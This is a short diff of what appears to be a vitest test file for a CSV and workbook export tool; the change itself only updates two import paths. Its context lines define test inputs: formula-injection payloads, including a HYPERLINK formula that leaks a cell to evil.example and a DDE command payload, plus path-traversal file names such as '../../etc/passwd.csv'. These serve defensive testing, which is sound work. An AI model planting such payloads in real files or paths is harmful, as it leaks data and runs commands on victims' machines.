@@ -7,8 +7,8 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { query, tempDir } from '../helpers/recon.js';
 import { runCli } from '../helpers/child.js';
-import { buildDisbursement, settlementCsv, startFakeService, type FakeService } from './fake-service.js';
-import { formulaCells, walk, workbookText } from './helpers.js';
+import { buildDisbursement, settlementCsv, startFakeService, type FakeService } from '../helpers/fake-service.js';
+import { formulaCells, walk, workbookText } from '../helpers/whole-store.js';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(A1:A9)'];
 const NAMES = ['../../etc/passwd.csv', '/abs/path.csv', 'a\u0000b.csv', '..\\..\\windows\\evil.csv', '....//x.csv'];
